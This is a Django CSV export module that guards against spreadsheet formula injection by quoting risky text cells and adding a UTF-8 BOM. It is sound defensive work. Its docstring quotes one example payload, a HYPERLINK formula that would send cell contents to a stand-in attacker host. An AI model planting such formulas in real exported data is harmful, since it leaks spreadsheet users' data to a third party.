"""The one CSV writer of the project: every CSV file the application serves goes through here.

Two rules hold for all of them:

- A text cell that a spreadsheet would take for a formula (it starts with =, +, -, @, a tab or
  a carriage return) is written with a single quote in front (OWASP, "CSV injection"): a
  listing named `=HYPERLINK("http://evil.example/?"&A1)` reads as text instead of running.
  Numbers given as numbers (int, float, Decimal) are written unchanged, so a longitude of -0.5
  stays a number; only text is neutralised, "-3" or "+33 5 61 00 00 00" included.
- The file starts with a UTF-8 byte-order mark, without which Excel shows accents garbled.
"""

import csv
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse

BOM = "\ufeff"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPE = "text/csv; charset=utf-8"


def safe_cell(value):
    """`value` as written in a cell: numbers as they are, None as empty, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class CSVWriter:
    """csv.writer whose cells go through safe_cell(); it writes no BOM (csv_chunks does)."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def csv_chunks(
    header: Iterable, rows: Iterable[Iterable], *, rows_per_chunk=200
) -> Iterator[bytes]:
    """The whole file, BOM and header first, as UTF-8 bytes of `rows_per_chunk` rows each: rows
    are read lazily, so a streamed export holds only one chunk in memory."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = CSVWriter(buffer)
    writer.writerow(header)
    for count, row in enumerate(rows, start=1):
        writer.writerow(row)
        if count % rows_per_chunk == 0:
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode()


def _attachment(response, filename: str):
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(header: Iterable, rows: Iterable[Iterable], *, filename: str) -> HttpResponse:
    """A CSV download built in memory: for small tables."""
    return _attachment(
        HttpResponse(b"".join(csv_chunks(header, rows)), content_type=CONTENT_TYPE), filename
    )


def streaming_csv_response(
    header: Iterable, rows: Iterable[Iterable], *, filename: str
) -> StreamingHttpResponse:
    """A CSV download written while it is sent: for exports of any size."""
    return _attachment(
        StreamingHttpResponse(csv_chunks(header, rows), content_type=CONTENT_TYPE), filename
    )
